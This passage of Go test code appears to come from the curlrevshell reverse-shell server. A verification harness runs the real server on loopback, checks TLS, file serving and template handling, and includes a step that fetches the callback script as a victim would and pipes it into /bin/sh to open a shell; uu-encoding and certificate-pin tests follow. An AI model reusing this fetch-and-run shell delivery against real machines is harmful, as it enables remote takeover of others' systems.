					"operator_lines": append([]string{}, lines...), "what": "Broker.Do had returned and the late attempt was still attached and running"})
				lmu.Unlock()
			}
		case <-time.After(300 * time.Millisecond):
			/* The late attempt won the mutex before Do: it was admitted before shutdown took effect, and Do waits for it. */
			attachedBefore++
		}
		cancel()
		pw.Close()
		<-sdone
		<-xdone
		<-ddone
		close(stopDrain)
		<-drained
	}
	bj, _ := json.Marshal(map[string]any{"rounds": rounds, "do_returned_first": doReturned, "attempt_admitted_first": attachedBefore, "late_attached": bad})
	os.WriteFile(outf, append(bj, '\n'), 0600)
}
