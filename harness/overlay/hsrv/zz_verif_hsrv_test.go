//go:build verif

package hsrv

/*
 * zz_verif_hsrv_test.go
 * Verification harness (lives in /verif, injected with -overlay): runs a real
 * Server (real TCP listener, real TLS, the real mux and handlers, a real
 * Broker) per case and performs a scripted list of actions against it - raw
 * request bytes over TLS, direct handler calls with crafted requests,
 * template-file edits, TCP connect probes, shell streams - recording the
 * responses and everything sent to the operator.
 */

import (
	"syscall"
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"math/big"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/idna"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/sstls"
)

// writeChainCache writes a certificate cache holding a CA-issued leaf followed by its issuer (a "fullchain") and the leaf's key.
func writeChainCache(path string) error {
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if nil != err {
		return err
	}
	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "verif-ca"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), IsCA: true, KeyUsage: x509.KeyUsageCertSign, BasicConstraintsValid: true}
	caDER, err := x509.CreateCertificate(crand.Reader, caT, caT, &caKey.PublicKey, caKey)
	if nil != err {
		return err
	}
	lKey, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if nil != err {
		return err
	}
	lT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "verif-leaf"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	lDER, err := x509.CreateCertificate(crand.Reader, lT, caT, &lKey.PublicKey, caKey)
	if nil != err {
		return err
	}
	kb, err := x509.MarshalPKCS8PrivateKey(lKey)
	if nil != err {
		return err
	}
	var b bytes.Buffer
	b.WriteString("Written by the verification harness\n-- cert --\n")
	pem.Encode(&b, &pem.Block{Type: "CERTIFICATE", Bytes: lDER})
	pem.Encode(&b, &pem.Block{Type: "CERTIFICATE", Bytes: caDER})
	b.WriteString("-- key --\n")
	pem.Encode(&b, &pem.Block{Type: "PRIVATE KEY", Bytes: kb})
	os.MkdirAll(filepath.Dir(path), 0700)
	return os.WriteFile(path, b.Bytes(), 0600)
}

func hxd(v any) []byte {
	s, _ := v.(string)
	b, _ := hex.DecodeString(s)
	return b
}
func hstr(m map[string]any, k string) string { s, _ := m[k].(string); return s }

// drainOch collects operator lines until the channel has been quiet for a moment.
func drainOch(och <-chan opshell.CLine, quiet time.Duration) []map[string]any {
	var out []map[string]any
	for {
		select {
		case cl, ok := <-och:
			if !ok {
				return out
			}
			out = append(out, map[string]any{"plain": cl.Plain, "color": int(cl.Color), "nots": cl.NoTimestamp,
				"line": hex.EncodeToString([]byte(cl.Line)), "prompt": "" != cl.Prompt})
		case <-time.After(quiet):
			return out
		}
	}
}

type hconn struct {
	c    net.Conn
	done chan struct{}
	mu   sync.Mutex
	buf  *bytes.Buffer
}

func runHsrvCase(t *testing.T, c map[string]any, tmp string) map[string]any {
	res := map[string]any{"i": c["i"]}
	cfg, _ := c["cfg"].(map[string]any)
	if nil == cfg {
		cfg = map[string]any{}
	}
	base, _ := os.MkdirTemp(tmp, "hsrv")
	defer os.RemoveAll(base)

	/* Files to serve, and canaries outside the tree. */
	fdir := ""
	root := filepath.Join(base, "root")
	switch hstr(cfg, "fdir") {
	case "dir", "file":
		os.MkdirAll(root, 0700)
		fdir = root
	}
	for _, e := range anyList(cfg["tree"]) {
		em := e.(map[string]any)
		p := filepath.Join(root, hstr(em, "p"))
		os.MkdirAll(filepath.Dir(p), 0700)
		if "dir" == hstr(em, "k") {
			os.MkdirAll(p, 0700)
		} else if n := int(vnum(em["gen"], 0)); n > 0 { /* a large file with computable content */
			b := make([]byte, n)
			for i := range b {
				b[i] = byte((i*31 + i/251 + 7) % 251)
			}
			os.WriteFile(p, b, 0600)
		} else {
			os.WriteFile(p, hxd(em["c"]), 0600)
		}
	}
	for _, e := range anyList(cfg["outside"]) {
		em := e.(map[string]any)
		p := filepath.Join(base, hstr(em, "p"))
		os.MkdirAll(filepath.Dir(p), 0700)
		os.WriteFile(p, hxd(em["c"]), 0600)
	}
	if "file" == hstr(cfg, "fdir") {
		fdir = filepath.Join(root, hstr(cfg, "single"))
		if b, _ := cfg["single_symlink"].(bool); b { /* -serve-files-from names the file through a symbolic link */
			ln := filepath.Join(base, "link-to-file")
			os.Symlink(fdir, ln)
			fdir = ln
		}
	}
	tmplf := ""
	if b, _ := cfg["tmpl_absent"].(bool); b { /* a template path is configured, the file is not there (yet) when the server starts */
		tmplf = filepath.Join(base, "callback.tmpl")
	}
	tmplLinked, tmplGen := false, 0
	if v, ok := cfg["tmpl"]; ok && nil != v {
		tmplf = filepath.Join(base, "callback.tmpl")
		if s, ok := v.(string); ok {
			if b, _ := cfg["tmpl_symlink"].(bool); b {
				/* The configured path is a symbolic link into a directory of releases; an edit is a new release plus an atomic re-point. */
				tmplLinked = true
				os.MkdirAll(filepath.Join(base, "releases"), 0700)
				os.WriteFile(filepath.Join(base, "releases", "v0.tmpl"), hxd(s), 0600)
				os.Symlink(filepath.Join("releases", "v0.tmpl"), tmplf)
			} else {
				os.WriteFile(tmplf, hxd(s), 0600)
			}
		}
	}
	certFile := ""
	if "" != hstr(cfg, "certfile") {
		certFile = filepath.Join(tmp, hstr(cfg, "certfile"))
	}
	if b, _ := cfg["chain_cache"].(bool); b && "" != certFile {
		if err := writeChainCache(certFile); nil != err {
			res["fatal"] = err.Error()
			return res
		}
	}
	if pf := hstr(cfg, "pin_first"); "" != pf && "" != certFile {
		/* A cache whose key pair's pin (base64 of the SHA-256 of its SubjectPublicKeyInfo, computed here) begins with a chosen character. */
		for try := 0; ; try++ {
			cp, kp, tc, err := sstls.GenerateSelfSignedCertificate("verif", nil, nil, 24*time.Hour)
			if nil != err || 20000 < try {
				res["fatal"] = fmt.Sprintf("pin_first: %v", err)
				return res
			}
			leaf, err := x509.ParseCertificate(tc.Certificate[0])
			if nil != err {
				res["fatal"] = err.Error()
				return res
			}
			h := sha256.Sum256(leaf.RawSubjectPublicKeyInfo)
			pin := base64.StdEncoding.EncodeToString(h[:])
			if strings.HasPrefix(pin, pf) {
				if err := sstls.SaveCertificate(certFile, cp, kp); nil != err {
					res["fatal"] = err.Error()
					return res
				}
				break
			}
		}
	}
	if b, _ := cfg["expired_cache"].(bool); b && "" != certFile {
		/* A cache created long ago: its certificate's lifespan has run out. */
		if _, err := os.Stat(certFile); nil != err {
			if _, err := sstls.GetCertificate("", nil, nil, -time.Hour, certFile); nil != err {
				res["fatal"] = err.Error()
				return res
			}
		}
	}
	var cbAddrs []string
	for _, a := range anyList(cfg["cbaddrs"]) {
		cbAddrs = append(cbAddrs, a.(string))
	}
	listen := hstr(cfg, "listen")
	if "" == listen {
		listen = "127.0.0.1:0"
	}
	oneShell, _ := cfg["oneshell"].(bool)
	ipv6, _ := cfg["ipv6"].(bool)

	ich := make(chan string, 1024)
	och := make(chan opshell.CLine, 65536)
	iob, err := iobroker.New(ich, och)
	if nil != err {
		res["fatal"] = err.Error()
		return res
	}
	jbuf := new(bytes.Buffer)
	sl := slog.New(slog.NewJSONHandler(jbuf, nil))
	s, err := New(sl, listen, fdir, tmplf, ich, och, iob, certFile, cbAddrs, ipv6, oneShell)
	if nil != err {
		res["new_error"] = err.Error()
		return res
	}
	ctx, cancel := context.WithCancel(context.Background())
	sdone := make(chan error, 1)
	idone := make(chan error, 1)
	go func() { sdone <- s.Do(ctx) }()
	go func() { idone <- iob.Do(ctx) }()
	addr := s.l.Addr().String()
	res["addr"] = addr
	res["fingerprint"] = s.l.Fingerprint
	res["startup"] = drainOch(och, 60*time.Millisecond)

	dial := func(sni string) (*tls.Conn, error) {
		d := &net.Dialer{Timeout: 15 * time.Second} /* loopback answers at once; the time is for a stalled machine */
		return tls.DialWithDialer(d, "tcp", addr, &tls.Config{InsecureSkipVerify: true, ServerName: sni, NextProtos: []string{"http/1.1"}})
	}
	/* What the listener really presents. */
	if tc, err := dial(""); nil == err {
		if cs := tc.ConnectionState(); 0 != len(cs.PeerCertificates) {
			h := sha256.Sum256(cs.PeerCertificates[0].RawSubjectPublicKeyInfo)
			res["served_pin"] = base64.StdEncoding.EncodeToString(h[:])
			res["served_spki"] = hex.EncodeToString(cs.PeerCertificates[0].RawSubjectPublicKeyInfo)
		}
		tc.Close()
	} else {
		res["dial_error"] = err.Error()
	}
	drainOch(och, 30*time.Millisecond)

	conns := map[string]*hconn{}
	var acts []map[string]any
	for _, a := range anyList(c["acts"]) {
		am := a.(map[string]any)
		ar := map[string]any{}
		switch hstr(am, "a") {
		case "raw": /* raw request bytes over a fresh TLS connection; read until the server closes or goes quiet */
			tc, err := dial(hstr(am, "sni"))
			if nil != err {
				ar["error"] = err.Error()
				break
			}
			tc.Write(hxd(am["req"]))
			if b, _ := am["halfclose"].(bool); b { /* printf 'GET ...' | openssl s_client: request sent, then close_notify */
				tc.CloseWrite()
			}
			/* Patience for the FIRST byte where the caller says an answer is due (first_byte_ms: a stalled machine must not look like a server
			which does not answer); once bytes flow, a second of silence ends the reading (streams which stay open by design). */
			tc.SetReadDeadline(time.Now().Add(time.Duration(vnum(am["first_byte_ms"], 1000)) * time.Millisecond))
			var buf bytes.Buffer
			b := make([]byte, 65536)
			for {
				n, err := tc.Read(b)
				buf.Write(b[:n])
				if nil != err {
					break
				}
				tc.SetReadDeadline(time.Now().Add(1000 * time.Millisecond))
				if resp, e2 := http.ReadResponse(bufio.NewReader(bytes.NewReader(buf.Bytes())), nil); nil == e2 {
					if body, e3 := io.ReadAll(resp.Body); nil == e3 && (resp.ContentLength >= 0 || resp.Close) {
						_ = body
						break
					}
				}
			}
			tc.Close()
			ar["resp"] = hex.EncodeToString(buf.Bytes())
			if resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(buf.Bytes())), nil); nil == err {
				body, _ := io.ReadAll(resp.Body)
				ar["status"] = resp.StatusCode
				ar["body"] = hex.EncodeToString(body)
				ar["location"] = resp.Header.Get("Location")
			}
		case "par": /* requests in flight at the same time: each worker sends its requests one after the other, all workers at once */
			nw, rounds := int(vnum(am["workers"], 8)), int(vnum(am["rounds"], 1))
			reqs := anyList(am["reqs"])
			var (
				pmu  sync.Mutex
				pres []map[string]any
				pwg  sync.WaitGroup
			)
			start := make(chan struct{})
			for wk := 0; wk < nw; wk++ {
				pwg.Add(1)
				go func() {
					defer pwg.Done()
					<-start
					for rd := 0; rd < rounds; rd++ {
						ri := (wk + rd) % len(reqs)
						one := map[string]any{"req": ri}
						tc, err := dial("")
						if nil != err {
							one["error"] = err.Error()
						} else {
							tc.SetDeadline(time.Now().Add(20 * time.Second))
							tc.Write(hxd(reqs[ri]))
							raw, rerr := io.ReadAll(tc)
							tc.Close()
							if resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(raw)), nil); nil == err {
								body, berr := io.ReadAll(resp.Body)
								one["status"] = resp.StatusCode
								one["len"] = len(body)
								h := sha256.Sum256(body)
								one["sha256"] = hex.EncodeToString(h[:])
								if len(body) <= 8192 {
									one["body"] = hex.EncodeToString(body)
								}
								if nil != berr {
									one["body_error"] = berr.Error()
								}
							} else {
								one["error"] = fmt.Sprintf("unparsable response (%d bytes, read error %v): %v", len(raw), rerr, err)
							}
						}
						pmu.Lock()
						pres = append(pres, one)
						pmu.Unlock()
					}
				}()
			}
			close(start)
			pwg.Wait()
			ar["par"] = pres
		case "iopair": /* two /io requests from the same client address arriving together, over and over: which halves make the shell? */
			rounds := int(vnum(am["rounds"], 10))
			var pairs []map[string]any
			for rd := 0; rd < rounds; rd++ {
				type ioc struct {
					c   *tls.Conn
					buf bytes.Buffer
					mu  sync.Mutex
				}
				cs := [2]*ioc{{}, {}}
				var dwg sync.WaitGroup
				start := make(chan struct{})
				for k := range cs {
					dwg.Add(1)
					go func() {
						defer dwg.Done()
						tc, err := dial("")
						if nil != err {
							return
						}
						cs[k].c = tc
						<-start
						tc.Write([]byte("POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"))
						go func() {
							b := make([]byte, 65536)
							for {
								n, err := tc.Read(b)
								cs[k].mu.Lock()
								cs[k].buf.Write(b[:n])
								cs[k].mu.Unlock()
								if nil != err {
									return
								}
							}
						}()
					}()
				}
				time.Sleep(5 * time.Millisecond)
				close(start)
				dwg.Wait()
				time.Sleep(120 * time.Millisecond)
				drainOch(och, 20*time.Millisecond)
				probe := fmt.Sprintf("PROBE-%d", rd)
				ich <- probe
				for k, name := range []string{"A", "B"} {
					if nil != cs[k].c {
						d := fmt.Sprintf("OUT-%s-%d\n", name, rd)
						fmt.Fprintf(cs[k].c, "%x\r\n%s\r\n", len(d), d)
					}
				}
				lines := drainOch(och, 150*time.Millisecond)
				one := map[string]any{"round": rd, "in": "", "out": []string{}}
				for k, name := range []string{"A", "B"} {
					cs[k].mu.Lock()
					if bytes.Contains(cs[k].buf.Bytes(), []byte(probe)) {
						one["in"] = one["in"].(string) + name
					}
					cs[k].mu.Unlock()
				}
				for _, l := range lines {
					if p, _ := l["plain"].(bool); p {
						t, _ := hex.DecodeString(l["line"].(string))
						for _, name := range []string{"A", "B"} {
							if bytes.Contains(t, []byte(fmt.Sprintf("OUT-%s-%d", name, rd))) {
								one["out"] = append(one["out"].([]string), name)
							}
						}
					}
				}
				pairs = append(pairs, one)
				for k := range cs {
					if nil != cs[k].c {
						cs[k].c.Close()
					}
				}
				drainOch(och, 200*time.Millisecond)
			}
			ar["pairs"] = pairs
		case "direct": /* call the mux (or a handler) with a crafted request */
			method := hstr(am, "method")
			if "" == method {
				method = "GET"
			}
			r := httptest.NewRequest(method, "http://placeholder/", bytes.NewReader(hxd(am["body"])))
			r.RequestURI = hstr(am, "target")
			if u, err := r.URL.Parse(hstr(am, "target")); nil == err {
				r.URL = u
			} else {
				ar["error"] = err.Error()
				break
			}
			r.Host = hstr(am, "host")
			if ra := hstr(am, "remote"); "" != ra {
				r.RemoteAddr = ra
			}
			for k, v := range mapOf(am["headers"]) {
				r.Header.Set(k, v.(string))
			}
			if _, ok := am["sni"]; ok {
				r.TLS = &tls.ConnectionState{ServerName: hstr(am, "sni")}
			}
			if ct := hstr(am, "ctype"); "" != ct {
				r.Header.Set("Content-Type", ct)
			}
			rr := httptest.NewRecorder()
			hctx, hcancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
			if b, _ := am["cancelled"].(bool); b { /* the client's FIN was seen before the handler got going */
				hcancel()
			}
			func() {
				defer func() {
					if p := recover(); nil != p {
						ar["panic"] = fmt.Sprint(p)
					}
				}()
				s.newMux().ServeHTTP(rr, r.WithContext(hctx))
			}()
			hcancel()
			ar["status"] = rr.Code
			ar["body"] = hex.EncodeToString(rr.Body.Bytes())
			ar["location"] = rr.Header().Get("Location")
			/* environment oracles for the callback-address rule */
			if a, err := idna.ToASCII(r.Host); nil == err {
				ar["host_ascii"] = hex.EncodeToString([]byte(a))
			} else {
				ar["host_ascii_err"] = true
			}
		case "runscript": /* fetch /c like a victim would, pipe it to /bin/sh, and use the shell */
			tc, err := dial("")
			if nil != err {
				ar["error"] = err.Error()
				break
			}
			fmt.Fprintf(tc, "GET /c?c2=%s HTTP/1.0\r\n\r\n", addr)
			raw, _ := io.ReadAll(tc)
			tc.Close()
			resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(raw)), nil)
			if nil != err {
				ar["error"] = err.Error()
				break
			}
			script, _ := io.ReadAll(resp.Body)
			ar["script"] = hex.EncodeToString(script)
			cmd := exec.Command("/bin/sh")
			cmd.Stdin = bytes.NewReader(script)
			cmd.Dir = base
			if err := cmd.Start(); nil != err {
				ar["error"] = err.Error()
				break
			}
			/* Wait for the shell to be ready, use it, end it. */
			var seen []map[string]any
			waitFor := func(pred func(opshell.CLine) bool, d time.Duration) bool {
				dl := time.After(d)
				for {
					select {
					case cl := <-och:
						seen = append(seen, map[string]any{"plain": cl.Plain, "color": int(cl.Color), "line": hex.EncodeToString([]byte(cl.Line))})
						if pred(cl) {
							return true
						}
					case <-dl:
						return false
					}
				}
			}
			ready := waitFor(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellReadyMessage) }, 5*time.Second)
			ar["ready"] = ready
			if ready {
				ich <- "echo VERIF-$((40+2))-MARK"
				got := ""
				ar["echoed"] = waitFor(func(cl opshell.CLine) bool {
					if cl.Plain {
						got += cl.Line
					}
					return strings.Contains(got, "VERIF-42-MARK")
				}, 5*time.Second)
				ich <- "exit 0"
				ar["gone"] = waitFor(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) }, 5*time.Second)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			select {
			case <-done:
			case <-time.After(3 * time.Second):
				cmd.Process.Kill()
				ar["killed"] = true
			}
			ar["seen"] = seen
		case "swapcache": /* another run regenerates the certificate cache while this one is up */
			os.Remove(certFile)
			if _, err := sstls.GetCertificate("", nil, nil, 0, certFile); nil != err {
				ar["error"] = err.Error()
			}
		case "handshake": /* what does the listener present now? */
			if tc, err := dial(""); nil == err {
				if cs := tc.ConnectionState(); 0 != len(cs.PeerCertificates) {
					ar["served_spki"] = hex.EncodeToString(cs.PeerCertificates[0].RawSubjectPublicKeyInfo)
				}
				tc.Close()
			} else {
				ar["error"] = err.Error()
			}
		case "fdstorm": /* many silent callers at once while the process is short of file descriptors: accept(2) fails with EMFILE for a while */
			var lim, old syscall.Rlimit
			syscall.Getrlimit(syscall.RLIMIT_NOFILE, &old)
			ents, _ := os.ReadDir("/proc/self/fd")
			lim = old
			lim.Cur = uint64(len(ents) + int(vnum(am["spare"], 30)))
			if lim.Cur < old.Cur {
				syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
			}
			var held []net.Conn
			fails := 0
			for k := 0; k < 200 && fails < 20; k++ {
				nc, err := net.DialTimeout("tcp", addr, 300*time.Millisecond)
				if nil != err {
					fails++
					time.Sleep(5 * time.Millisecond)
					continue
				}
				held = append(held, nc)
			}
			time.Sleep(300 * time.Millisecond)
			for _, nc := range held {
				nc.Close()
			}
			syscall.Setrlimit(syscall.RLIMIT_NOFILE, &old)
			ar["held"] = len(held)
			ar["dial_failures"] = fails
			time.Sleep(1500 * time.Millisecond) /* net/http retries a failing accept after at most a second */
		case "rmroot": /* the directory files are served from disappears while the server is up (unmounted, cleaned away) */
			os.RemoveAll(root)
		case "tmpl": /* edit / remove the template file */
			if v, ok := am["c"].(string); ok && tmplLinked {
				oldT := filepath.Join(base, "releases", fmt.Sprintf("v%d.tmpl", tmplGen))
				tmplGen++
				rel := filepath.Join("releases", fmt.Sprintf("v%d.tmpl", tmplGen))
				os.WriteFile(filepath.Join(base, rel), hxd(v), 0600)
				os.Remove(tmplf + ".new")
				os.Symlink(rel, tmplf+".new")
				os.Rename(tmplf+".new", tmplf)
				os.Remove(oldT)
			} else if ok {
				os.WriteFile(tmplf, hxd(v), 0600)
				if b, _ := am["keep_mtime"].(bool); b { /* an edit within the clock's granularity, or by a tool which restores times */
					mt := time.Unix(1600000000, 0)
					os.Chtimes(tmplf, mt, mt)
				}
			} else {
				os.Remove(tmplf)
			}
		case "probe": /* does the listening socket still accept connections? */
			deadline := time.Now().Add(time.Duration(vnum(am["wait_ms"], 0)) * time.Millisecond)
			for {
				nc, err := net.DialTimeout("tcp", addr, 3*time.Second) /* a closed port refuses at once; the time is for a stalled machine */
				if nil == err {
					nc.Close()
					ar["open"] = true
				} else {
					ar["open"] = false
					ar["error"] = err.Error()
				}
				if want, ok := am["until"].(bool); !ok || want == ar["open"].(bool) || time.Now().After(deadline) {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
		case "open": /* a shell stream: send request bytes, keep the connection */
			tc, err := dial(hstr(am, "sni"))
			if nil != err {
				ar["error"] = err.Error()
				break
			}
			hc := &hconn{c: tc, done: make(chan struct{}), buf: new(bytes.Buffer)}
			conns[hstr(am, "id")] = hc
			tc.Write(hxd(am["req"]))
			go func() {
				defer close(hc.done)
				b := make([]byte, 65536)
				for {
					n, err := tc.Read(b)
					hc.mu.Lock()
					hc.buf.Write(b[:n])
					hc.mu.Unlock()
					if nil != err {
						return
					}
				}
			}()
		case "peek": /* what has a kept connection received so far, and has its response ended by itself? */
			if hc := conns[hstr(am, "id")]; nil != hc {
				hc.mu.Lock()
				got := append([]byte(nil), hc.buf.Bytes()...)
				hc.mu.Unlock()
				ar["got"] = hex.EncodeToString(got)
				ended := false
				select {
				case <-hc.done:
					ended = true
				default:
				}
				br := bufio.NewReader(bytes.NewReader(got))
				for {
					resp, err := http.ReadResponse(br, nil)
					if nil != err {
						break
					}
					if 1 == resp.StatusCode/100 { /* "100 Continue" is not the answer */
						continue
					}
					if _, e2 := io.ReadAll(resp.Body); nil == e2 && (resp.ContentLength >= 0 || 0 != len(resp.TransferEncoding)) {
						ended = true
					}
					break
				}
				ar["ended"] = ended
			}
		case "send": /* more bytes on a kept connection */
			if hc := conns[hstr(am, "id")]; nil != hc {
				hc.c.Write(hxd(am["d"]))
			}
		case "close":
			if hc := conns[hstr(am, "id")]; nil != hc {
				hc.c.Close()
				<-hc.done
				hc.mu.Lock()
				ar["got"] = hex.EncodeToString(hc.buf.Bytes())
				hc.mu.Unlock()
			}
		case "line": /* operator enters a line */
			ich <- string(hxd(am["l"]))
		case "sleep":
			time.Sleep(time.Duration(vnum(am["ms"], 10)) * time.Millisecond)
		case "stop": /* cancel the server's context (Ctrl+C / EOF) */
			cancel()
		case "wait_do": /* has Server.Do returned, and how? */
			select {
			case err := <-sdone:
				ar["do_returned"] = true
				ar["err"] = fmt.Sprint(err)
				ar["is_oneshell"] = err == ErrOneShellClosed
				sdone <- err
			case <-time.After(time.Duration(vnum(am["ms"], 500)) * time.Millisecond):
				ar["do_returned"] = false
			}
		}
		ar["och"] = drainOch(och, time.Duration(vnum(am["quiet_ms"], 40))*time.Millisecond)
		acts = append(acts, ar)
	}
	res["acts"] = acts
	for _, hc := range conns {
		hc.c.Close()
	}
	cancel()
	select {
	case <-sdone:
	case <-time.After(3 * time.Second):
		res["stuck"] = true
	}
	select {
	case <-idone:
	case <-time.After(3 * time.Second):
		res["stuck"] = true
	}
	res["log"] = jbuf.String()
	return res
}

func anyList(v any) []any { l, _ := v.([]any); return l }
func mapOf(v any) map[string]any {
	m, _ := v.(map[string]any)
	return m
}
func vnum(v any, def int) int {
	f, ok := v.(float64)
	if !ok {
		return def
	}
	return int(f)
}

func TestVerifHsrv(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
		t.Fatal(err)
	}
	defer in.Close()
	outF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer outF.Close()
	w := bufio.NewWriterSize(outF, 1<<20)
	defer w.Flush()
	tmp := os.Getenv("VERIF_TMP")
	sc := bufio.NewScanner(in)
	sc.Buffer(make([]byte, 1<<20), 1<<28)
	for sc.Scan() {
		var c map[string]any
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		r := runHsrvCase(t, c, tmp)
		r["consts"] = map[string]any{"curlformat": CurlFormat, "shellsuffix": ShellSuffix, "filesuffix": FileSuffix,
			"closing": ClosingListenerMessage, "ready": iobroker.ShellReadyMessage, "gone": iobroker.ShellDisconnectedMessage,
			"default_template": DefaultTemplate}
		b, _ := json.Marshal(r)
		w.Write(b)
		w.WriteByte('\n')
		w.Flush()
	}
	_ = strings.TrimSpace
}
