package main

import (
	"bytes"
	"errors"
	"fmt"

	"github.com/magisterquis/curlrevshell/lib/uu"
)

func init() { subcommands["uu"] = uuMain }

const canary = 0xA5

// arena places b inside a canary-filled buffer with pre bytes before it and
// post bytes after it; the returned slice has len(b) and capacity
// len(b)+spare (spare <= post), so that code which writes past len but within
// cap shows up as a modified canary unless it legitimately appended.
func arena(b []byte, pre, post, spare int) (ar []byte, s []byte) {
	ar = bytes.Repeat([]byte{canary}, pre+len(b)+post)
	copy(ar[pre:], b)
	s = ar[pre : pre+len(b) : pre+len(b)+spare]
	return ar, s
}

// arenaIntact reports whether everything in ar outside [lo,hi) is still canary.
func arenaIntact(ar []byte, lo, hi int) bool {
	for i, v := range ar {
		if i >= lo && i < hi {
			continue
		}
		if canary != v {
			return false
		}
	}
	return true
}

// uuMain: input lines {"op":"enc"|"dec","dst":hex,"src":hex,"layout":n}
func uuMain(args []string) {
	defer out.Flush()
	eachLine(func(m map[string]any) {
		op, _ := m["op"].(string)
		dst0 := unhex(m["dst"])
		src0 := unhex(m["src"])
		layout := num(m["layout"])
		res := map[string]any{"i": m["i"]}

		/* Lay out the buffers. */
		const pre, post = 8, 64
		srcSpare := 0
		if 1 == layout%2 { /* Source with capacity reaching into canaries. */
			srcSpare = 16
		}
		srcAr, src := arena(src0, pre, post, srcSpare)
		var (
			dstAr []byte
			dst   []byte
		)
		switch layout / 2 {
		case 0: /* nil destination (only if dst is empty). */
			if 0 != len(dst0) {
				dstAr, dst = arena(dst0, pre, post, 0)
			}
		case 1: /* No spare capacity: must reallocate. */
			dstAr, dst = arena(dst0, pre, post, 0)
		case 2: /* A little spare capacity: reallocates midway. */
			dstAr, dst = arena(dst0, pre, post, 5)
		default: /* Lots of spare capacity: appends in place. */
			big := 64 + 2*len(src0) + len(src0)/8
			dstAr = bytes.Repeat([]byte{canary}, pre+len(dst0)+big)
			copy(dstAr[pre:], dst0)
			dst = dstAr[pre : pre+len(dst0) : pre+len(dst0)+big-8]
		}

		/* Run the real code, catching panics. */
		var (
			got []byte
			err error
			pan any
		)
		func() {
			defer func() { pan = recover() }()
			switch op {
			case "enc":
				got = uu.AppendEncode(dst, src)
				res["maxlen"] = uu.MaxEncodedLen(src)
			case "dec":
				got, err = uu.AppendDecode(dst, src)
				res["maxlen"] = uu.MaxDecodedLen(src)
			}
		}()

		/* Result. */
		switch {
		case nil != pan:
			res["r"] = "panic"
			res["msg"] = fmt.Sprint(pan)
		case nil != err:
			res["r"] = "err"
			res["msg"] = err.Error()
			var de uu.DecodeError
			if errors.As(err, &de) {
				res["line"] = de.Line
				res["off"] = de.Offset
				var (
					ilc uu.InvalidLengthCharacterError
					iec uu.InvalidEncodedCharacterError
					idl uu.IncorrectDataLenError
				)
				switch {
				case errors.Is(err, uu.ErrInvalidDataLen):
					res["cls"] = 0
				case errors.As(err, &ilc):
					res["cls"] = 1
					res["p1"] = int(ilc)
				case errors.As(err, &idl):
					res["cls"] = 2
					res["p1"] = idl.Expected
					res["p2"] = idl.Actual
				case errors.As(err, &iec):
					res["cls"] = 3
					res["p1"] = int(iec)
				default:
					res["cls"] = 9
				}
			} else {
				res["cls"] = 9
			}
			res["gotnil"] = nil == got
		default:
			res["r"] = "ok"
			res["out"] = hx(got)
		}

		/* Purity: source (whole capacity region and surroundings) and the
		existing destination contents untouched; destination arena beyond
		what the result legitimately covers untouched. */
		pure := bytes.Equal(srcAr[pre:pre+len(src0)], src0) &&
			arenaIntact(srcAr, pre, pre+len(src0))
		if nil != dstAr {
			/* Everything up to cap(dst) may legitimately be written by
			append; the existing contents [0,len) may not change. */
			pure = pure && bytes.Equal(dstAr[pre:pre+len(dst0)], dst0) &&
				arenaIntact(dstAr, pre, pre+cap(dst))
		}
		res["pure"] = pure
		emit(res)
	})
}
