package main

import (
	"strconv"
	"crypto/ecdsa"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
)

func init() { subcommands["cert"] = certMain }

func spkiHash(c tls.Certificate) string {
	if nil == c.Leaf {
		if 0 == len(c.Certificate) {
			return ""
		}
		l, err := x509.ParseCertificate(c.Certificate[0])
		if nil != err {
			return ""
		}
		c.Leaf = l
	}
	/* The identity of a key pair is its public key VALUE: the canonical encoding of the parsed key, not the bytes the certificate happens to carry
	(Go's parser accepts a certificate whose SubjectPublicKeyInfo SEQUENCE claims a few bytes too many - same key, other bytes). */
	if b, err := x509.MarshalPKIXPublicKey(c.Leaf.PublicKey); nil == err {
		h := sha256.Sum256(b)
		return hx(h[:8])
	}
	h := sha256.Sum256(c.Leaf.RawSubjectPublicKeyInfo)
	return hx(h[:8])
}

// rawSpkiHash: the bytes as the certificate carries them (what a pin is computed from).
